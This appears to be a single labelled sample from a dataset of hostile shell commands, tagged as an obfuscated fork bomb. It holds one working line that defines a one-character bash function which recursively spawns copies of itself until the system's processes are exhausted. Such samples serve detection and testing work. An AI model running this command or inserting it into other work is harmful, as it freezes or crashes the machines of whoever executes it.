# description: Hides a fork bomb with a one-character function name inside bash -c.
# family: fork-bomb
# obfuscated: yes
bash -c '_(){ _|_& };_'
